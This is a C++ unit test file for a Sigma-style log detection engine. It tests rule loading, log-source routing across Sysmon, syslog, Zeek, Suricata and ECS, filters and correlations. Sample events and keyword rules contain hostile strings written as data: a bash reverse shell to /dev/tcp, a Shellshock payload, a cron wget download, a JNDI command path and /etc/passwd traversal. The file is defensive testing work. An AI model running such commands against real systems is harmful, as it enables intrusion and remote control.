// Loading rule files (problems with positions and codes), log-source dispatch, filters.
#include "detect/ruleset.h"

#include <gtest/gtest.h>

#include <thread>

#include "detect/detect_test_util.h"

namespace vigil::detect {
namespace {

using testing::Fired;
using testing::RulesFrom;

constexpr const char* kSysmonProcess = R"({"Event":{"System":{"EventID":1,
    "Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1"},
    "EventData":{"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all"}}})";
constexpr const char* kSecurityProcess = R"({"Event":{"System":{"EventID":4688,
    "Channel":"Security"},"EventData":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe",
    "CommandLine":"whoami /all"}}})";

const char* kProcessRule = R"(title: whoami
id: 11111111-1111-1111-1111-111111111111
logsource: {product: windows, category: process_creation}
detection:
  s: {Image|endswith: '\whoami.exe'}
  condition: s
level: medium
)";

TEST(RuleSet, CategoryRulesSeeSysmonAndSecurityEventsWithAliases) {
  LoadReport report;
  auto rules = RulesFrom(kProcessRule, &report);
  ASSERT_TRUE(report.problems.empty());
  EXPECT_EQ(Fired(*rules, kSysmonProcess).size(), 1u);
  EXPECT_EQ(Fired(*rules, kSecurityProcess).size(), 1u);  // Image <- NewProcessName
}

TEST(RuleSet, EventsThroughOneScratchAreEachClassifiedByTheirOwnFields) {
  // A scratch caches classifications by the tested fields an event has and their values: a
  // stream of events of different kinds, field orders and sources must each get their own.
  LoadReport report;
  auto rules = RulesFrom(kProcessRule, &report);
  ASSERT_TRUE(report.problems.empty());
  const std::string reordered = R"({"Event":{"EventData":{"CommandLine":"whoami /all",
      "Image":"C:\\Windows\\System32\\whoami.exe"},"System":{"Computer":"pc1",
      "Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1}}})";
  const std::string network = R"({"Event":{"System":{"EventID":3,
      "Channel":"Microsoft-Windows-Sysmon/Operational"},
      "EventData":{"Image":"C:\\Windows\\System32\\whoami.exe"}}})";
  const std::string flat = R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,
      "Image":"C:\\Windows\\System32\\whoami.exe"})";
  RuleSet::Scratch scratch;
  auto fires = [&](const std::string& json) {
    Event event;
    EXPECT_TRUE(ParseJsonEvent(json, &event).ok()) << json;
    std::vector<Detection> detections;
    rules->Match(event, scratch, &detections);
    return detections.size() == 1;
  };
  for (int round = 0; round < 2; ++round) {
    EXPECT_TRUE(fires(kSysmonProcess));
    EXPECT_FALSE(fires(network));  // same channel and Image, another event id: not a process
    EXPECT_TRUE(fires(reordered));
    EXPECT_TRUE(fires(kSecurityProcess));  // Image <- NewProcessName
    EXPECT_TRUE(fires(flat));
    EXPECT_FALSE(fires(R"({"Image":"C:\\whoami.exe"})"));  // no source: not for this rule
  }
}

TEST(RuleSet, LogsourceKeepsRulesToTheirEvents) {
  LoadReport report;
  auto rules = RulesFrom(R"(title: registry
logsource: {product: windows, category: registry_set}
detection:
  s: {Image|endswith: '\whoami.exe'}
  condition: s
---
title: service-rule
logsource: {product: windows, service: sysmon}
detection:
  s: {EventID: 1}
  condition: s
---
title: unmapped
logsource: {product: linux, service: auditd}
detection:
  s: {Image|endswith: '\whoami.exe'}
  condition: s
)",
                         &report);
  ASSERT_TRUE(report.problems.empty());
  // Not a registry event; the linux rule does not see a recognised Windows event.
  EXPECT_EQ(Fired(*rules, kSysmonProcess), std::vector<std::string>{"service-rule"});
  // An event no map entry recognises reaches the rules of unmapped sources...
  EXPECT_EQ(Fired(*rules, R"({"Image":"x\\whoami.exe"})"), std::vector<std::string>{"unmapped"});
}

TEST(RuleSet, SyslogEventsReachLinuxRules) {
  LoadReport report;
  auto rules = RulesFrom(R"(title: sshd
logsource: {product: linux, service: sshd}
detection:
  keywords: ['unexpected internal error']
  condition: keywords
---
title: linux
logsource: {product: linux}
detection:
  keywords: ['() { :; };']
  condition: keywords
)",
                         &report);
  ASSERT_TRUE(report.problems.empty());
  // Syslog as the server normalises it (src/events/normalise.h).
  EXPECT_EQ(Fired(*rules, R"({"source_type":"syslog","app_name":"sshd","facility":4,
      "message":"error: unexpected internal error"})"),
            std::vector<std::string>{"sshd"});
  EXPECT_EQ(Fired(*rules, R"({"source_type":"syslog","app_name":"httpd",
      "message":"GET / () { :; }; id"})"),
            std::vector<std::string>{"linux"});
  // A JSON event that is not syslog does not reach Linux service rules.
  EXPECT_TRUE(Fired(*rules, R"({"message":"error: unexpected internal error"})").empty());
}

// An sshd event reaches the keyword literals of three buckets (linux, linux/auth, linux/sshd),
// scanned in one database built for that set of buckets; a cron event reaches two others. Every
// keyword of every bucket still fires, through one scratch reused across the kinds of event and
// from several threads sharing the rule set.
TEST(RuleSet, KeywordsOfSeveralBucketsAreFoundInOneScan) {
  LoadReport report;
  auto rules = RulesFrom(R"(title: sshd
logsource: {product: linux, service: sshd}
detection:
  keywords: ['unexpected internal error', 'Corrupted MAC']
  condition: keywords
---
title: auth
logsource: {product: linux, service: auth}
detection:
  keywords: ['authentication failure']
  condition: keywords
---
title: linux
logsource: {product: linux}
detection:
  keywords: ['() { :; };', '/dev/tcp/']
  condition: keywords
---
title: cron
logsource: {product: linux, service: cron}
detection:
  keywords: ['wget http']
  condition: keywords
)",
                         &report);
  ASSERT_TRUE(report.problems.empty());
  const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
      {R"j({"source_type":"syslog","app_name":"sshd","facility":4,
          "message":"Corrupted MAC; authentication failure; bash -i >& /dev/tcp/1.2.3.4/80"})j",
       {"sshd", "auth", "linux"}},
      {R"j({"source_type":"syslog","app_name":"sshd","facility":4,"message":"all quiet"})j", {}},
      {R"j({"source_type":"syslog","app_name":"CRON","facility":9,
          "message":"(root) CMD (wget http://x/a.sh; () { :; }; id)"})j",
       {"linux", "cron"}},
      {R"j({"source_type":"syslog","app_name":"sshd","facility":4,
          "message":"error: unexpected internal error"})j",
       {"sshd"}},
      // One value only (no joining), and keywords of a bucket the event does not reach.
      {R"j({"source_type":"syslog","message":"wget http://x unexpected internal error"})j", {}},
  };
  auto run_all = [&] {
    RuleSet::Scratch scratch;
    for (int round = 0; round < 3; ++round) {
      for (const auto& [json, want] : cases) {
        Event event;
        EXPECT_TRUE(ParseJsonEvent(json, &event).ok());
        std::vector<Detection> detections;
        rules->Match(event, scratch, &detections);
        std::vector<std::string> titles;
        for (const Detection& d : detections) titles.push_back(d.rule->rule.title);
        EXPECT_EQ(titles, want) << json;
      }
    }
  };
  std::vector<std::thread> threads;
  for (int i = 0; i < 3; ++i) threads.emplace_back(run_all);
  for (std::thread& t : threads) t.join();
}

TEST(RuleSet, UnknownEventsReachOnlyRulesThatReadTheirFields) {
  LoadReport report;
  auto rules = RulesFrom(R"(title: console login from outside
logsource: {product: aws, service: cloudtrail}
detection:
  private: {sourceIPAddress|cidr: 10.0.0.0/8}
  condition: not private
)",
                         &report);
  EXPECT_EQ(Fired(*rules, R"({"sourceIPAddress":"8.8.8.8"})").size(), 1u);
  EXPECT_TRUE(Fired(*rules, R"({"sourceIPAddress":"10.1.1.1"})").empty());
  EXPECT_TRUE(Fired(*rules, R"({"message":"unrelated"})").empty());
}

// Rules shaped like SigmaHQ's for Zeek, generic DNS / proxy / web-server / firewall categories.
constexpr const char* kNetworkRules = R"(title: zeek dns tor
logsource: {product: zeek, service: dns}
detection:
  s: {query|endswith: '.onion'}
  condition: s
---
title: dns cobalt
logsource: {category: dns}
detection:
  s: {query|startswith: 'aaa.stage.'}
  condition: s
---
title: zeek webdav put
logsource: {product: zeek, service: http}
detection:
  s: {user_agent|contains: WebDAV, method: PUT}
  condition: s
---
title: proxy webdav
logsource: {category: proxy}
detection:
  s: {c-useragent|startswith: 'Microsoft-WebDAV-MiniRedir/', cs-method: GET}
  condition: s
---
title: web jndi
logsource: {category: webserver}
detection:
  keywords: ['/Basic/Command/Base64/']
  condition: keywords
---
title: web traversal
logsource: {category: webserver}
detection:
  s: {c-uri|contains: '/../../'}
  condition: s
---
title: firewall mongo
logsource: {category: firewall}
detection:
  s: {dst_port: 27017}
  condition: s
---
title: zeek rdp public
logsource: {product: zeek, service: rdp}
detection:
  private: {id.orig_h|cidr: 10.0.0.0/8}
  condition: not private
---
title: zeek smb psexec
logsource: {product: zeek, service: smb_files}
detection:
  s: {name|endswith: '-stdin'}
  condition: s
)";

TEST(RuleSet, ZeekLogsAreRecognisedByPathOrByTheirFields) {
  LoadReport report;
  auto rules = RulesFrom(kNetworkRules, &report);
  ASSERT_TRUE(report.problems.empty()) << report.problems[0].problem.message;
  using V = std::vector<std::string>;
  // dns.log without _path (Zeek's JSON writer), and with it: both the Zeek and the generic rule.
  EXPECT_EQ(Fired(*rules, R"({"ts":1.5,"uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"10.0.0.1",
      "proto":"udp","query":"aaa.stage.1.x.onion","rejected":false,"AA":false,"RD":true})"),
            (V{"zeek dns tor", "dns cobalt"}));
  EXPECT_EQ(Fired(*rules, R"({"_path":"dns","uid":"C1","query":"x.onion"})"), V{"zeek dns tor"});
  // http.log: the Zeek rule on its names, the proxy rule through aliases.
  const char* http = R"({"uid":"C2","id.orig_h":"10.0.0.5","trans_depth":1,"method":"PUT",
      "host":"files.example","uri":"/a","user_agent":"Microsoft-WebDAV-MiniRedir/10.0",
      "request_body_len":0,"response_body_len":10})";
  EXPECT_EQ(Fired(*rules, http), V{"zeek webdav put"});
  EXPECT_EQ(Fired(*rules, R"({"_path":"http","uid":"C2","method":"GET",
      "user_agent":"Microsoft-WebDAV-MiniRedir/10.0"})"),
            V{"proxy webdav"});
  // conn.log as a firewall event; rdp.log and smb_files.log by their fields.
  EXPECT_EQ(Fired(*rules, R"({"uid":"C3","id.orig_h":"10.0.0.5","id.resp_p":27017,"proto":"tcp",
      "missed_bytes":0})"),
            V{"firewall mongo"});
  EXPECT_EQ(Fired(*rules, R"({"uid":"C4","id.orig_h":"203.0.113.9","cert_count":0})"),
            V{"zeek rdp public"});
  EXPECT_TRUE(Fired(*rules, R"({"uid":"C4","id.orig_h":"10.1.1.1","cert_count":0})").empty());
  EXPECT_EQ(Fired(*rules, R"({"uid":"C5","action":"SMB::FILE_OPEN","name":"PSEXESVC-pc-1-stdin",
      "size":0})"),
            V{"zeek smb psexec"});
  // A Zeek rule no longer runs on events that are not its log: a conn.log line is not rdp.
  EXPECT_EQ(Fired(*rules, R"({"uid":"C3","id.orig_h":"8.8.8.8","proto":"tcp","missed_bytes":0})"),
            V{});
}

TEST(RuleSet, EveEcsAndSyslogWebEventsReachTheGenericCategories) {
  LoadReport report;
  auto rules = RulesFrom(kNetworkRules, &report);
  ASSERT_TRUE(report.problems.empty());
  using V = std::vector<std::string>;
  // Suricata EVE: DNS in the v2 and v3 shapes, HTTP, flow.
  EXPECT_EQ(Fired(*rules, R"({"event_type":"dns","src_ip":"10.0.0.5",
      "dns":{"type":"query","rrname":"aaa.stage.7.example","rrtype":"TXT"}})"),
            V{"dns cobalt"});
  EXPECT_EQ(Fired(*rules, R"({"event_type":"dns","dns":{"version":3,"type":"request",
      "queries":[{"rrname":"aaa.stage.8.example","rrtype":"A"}]}})"),
            V{"dns cobalt"});
  EXPECT_EQ(Fired(*rules, R"({"event_type":"http","http":{"hostname":"h","url":"/x",
      "http_user_agent":"Microsoft-WebDAV-MiniRedir/10.0","http_method":"GET"}})"),
            V{"proxy webdav"});
  EXPECT_EQ(Fired(*rules, R"({"event_type":"flow","src_ip":"10.0.0.5","dest_ip":"10.0.0.9",
      "dest_port":27017,"proto":"TCP"})"),
            V{"firewall mongo"});
  // ECS (Filebeat's nginx module) and a web server's syslog.
  EXPECT_EQ(Fired(*rules, R"({"event":{"module":"nginx"},"http":{"request":{"method":"GET"}},
      "url":{"original":"/static/../../etc/passwd"}})"),
            V{"web traversal"});
  EXPECT_EQ(Fired(*rules, R"({"source_type":"syslog","app_name":"nginx",
      "message":"203.0.113.9 - - [22/Nov/2026] GET /Basic/Command/Base64/aWQ= HTTP/1.1 404"})"),
            V{"web jndi"});
  // Web-server rules do not run on other syslog programs.
  EXPECT_TRUE(Fired(*rules, R"({"source_type":"syslog","app_name":"sshd",
      "message":"GET /Basic/Command/Base64/aWQ="})")
                  .empty());
}

TEST(RuleSet, LogsourceMapExistsTests) {
  LogsourceMap map;
  EXPECT_FALSE(LogsourceMap::Parse(R"(
- {when: {marker|exists: true, other|exists: false}, logsource: {product: p}}
)",
                                   &map));
  LoadOptions options;
  options.logsources = &map;
  LoadReport report;
  auto rules = RulesFrom(R"(title: p rule
logsource: {product: p}
detection:
  s: {x: 1}
  condition: s
)",
                         &report, options);
  ASSERT_TRUE(report.problems.empty());
  EXPECT_EQ(Fired(*rules, R"({"marker":"","x":1})").size(), 1u);
  EXPECT_TRUE(Fired(*rules, R"({"marker":"a","other":"b","x":1})").empty());
  EXPECT_TRUE(Fired(*rules, R"({"x":1})").empty());
  auto problem = LogsourceMap::Parse("- {when: {a|exists: maybe}, logsource: {product: p}}", &map);
  ASSERT_TRUE(problem);
  EXPECT_NE(problem->message.find("true or false"), std::string::npos) << problem->message;
  EXPECT_EQ(problem->line, 1);
  EXPECT_TRUE(LogsourceMap::Parse("- {when: {a|contains: x}, logsource: {product: p}}", &map));
}

TEST(RuleSet, FiltersApplyToTheRulesTheyName) {
  LoadReport report;
  auto rules = RulesFrom(std::string(kProcessRule) + R"(---
title: not on admin hosts
logsource: {product: windows, category: process_creation}
filter:
  rules: [11111111-1111-1111-1111-111111111111]
  admin: {Computer: pc1}
  condition: not admin
)",
                         &report);
  ASSERT_TRUE(report.problems.empty()) << report.problems[0].problem.message;
  EXPECT_EQ(report.filters, 1u);
  EXPECT_TRUE(Fired(*rules, kSysmonProcess).empty());     // on pc1: filtered
  EXPECT_EQ(Fired(*rules, kSecurityProcess).size(), 1u);  // no Computer: not filtered
}

TEST(RuleSet, ProblemsNameFileLineAndCodeAndTheRestLoads) {
  LoadReport report;
  auto rules = RulesFrom(R"(title: good
logsource: {product: test}
detection:
  s: {A: 1}
  condition: s
---
title: bad modifier
logsource: {product: test}
detection:
  s: {A|nope: 1}
  condition: s
---
logsource: {product: test}
detection: {s: {A: 1}, condition: s}
---
title: no detection
logsource: {product: test}
)",
                         &report);
  EXPECT_EQ(report.detection_rules, 1u);
  ASSERT_EQ(report.problems.size(), 3u);
  EXPECT_EQ(report.problems[0].problem.code, "unknown_modifier");
  EXPECT_EQ(report.problems[0].problem.line, 10);
  EXPECT_EQ(report.problems[0].file, "test.yml");
  EXPECT_EQ(report.problems[1].problem.code, "missing_title");
  EXPECT_EQ(report.problems[2].problem.code, "missing_detection");
  EXPECT_EQ(Fired(*rules, R"({"A":1})"), std::vector<std::string>{"good"});
}

TEST(RuleSet, BadYamlIsOneProblemWithPosition) {
  LoadReport report;
  auto rules = RulesFrom("title: x\ndetection: [unclosed\n", &report);
  ASSERT_EQ(report.problems.size(), 1u);
  EXPECT_EQ(report.problems[0].problem.code, "bad_yaml");
  EXPECT_GT(report.problems[0].problem.line, 0);
}

TEST(RuleSet, CorrelationsMustNameLoadedRules) {
  LoadReport report;
  auto rules = RulesFrom(std::string(kProcessRule) + R"(---
title: many whoami
correlation:
  type: event_count
  rules: [11111111-1111-1111-1111-111111111111]
  group-by: [Computer]
  timespan: 5m
  condition: {gte: 3}
---
title: dangling
correlation:
  type: event_count
  rules: [missing-rule]
  timespan: 5m
  condition: {gte: 3}
---
title: no threshold
correlation:
  type: value_count
  rules: [11111111-1111-1111-1111-111111111111]
  timespan: 5m
)",
                         &report);
  EXPECT_EQ(rules->correlations().size(), 1u);
  ASSERT_EQ(report.problems.size(), 2u);
  EXPECT_EQ(report.problems[0].problem.code, "bad_correlation");
  EXPECT_EQ(report.problems[1].problem.code, "unknown_rule");
}

TEST(RuleSet, TimespansNeedAUnit) {
  for (const auto& [span, code] :
       std::vector<std::pair<std::string, std::string>>{{"2w", ""},
                                                        {"1M", ""},
                                                        {"30s", ""},
                                                        {"5", "bad_timespan"},
                                                        {"0m", "bad_timespan"},
                                                        {"5q", "bad_timespan"}}) {
    LoadReport report;
    auto rules = RulesFrom(std::string(kProcessRule) + R"(---
title: c
correlation:
  type: event_count
  rules: [11111111-1111-1111-1111-111111111111]
  timespan: )" + span + R"(
  condition: {gte: 3}
)",
                           &report);
    EXPECT_EQ(report.problems.empty() ? "" : report.problems[0].problem.code, code) << span;
  }
}

TEST(RuleSet, DetectionCarriesTheRuleFieldsOfTheEvent) {
  LoadReport report;
  auto rules = RulesFrom(kProcessRule, &report);
  Event event;
  ASSERT_TRUE(ParseJsonEvent(kSysmonProcess, &event).ok());
  RuleSet::Scratch scratch;
  std::vector<Detection> out;
  rules->Match(event, scratch, &out);
  ASSERT_EQ(out.size(), 1u);
  ASSERT_EQ(out[0].fields.size(), 1u);
  EXPECT_EQ(out[0].fields[0].first, "Image");
  EXPECT_EQ(out[0].fields[0].second, "C:\\Windows\\System32\\whoami.exe");
  EXPECT_EQ(EventHost(event), "pc1");
}

}  // namespace
}  // namespace vigil::detect
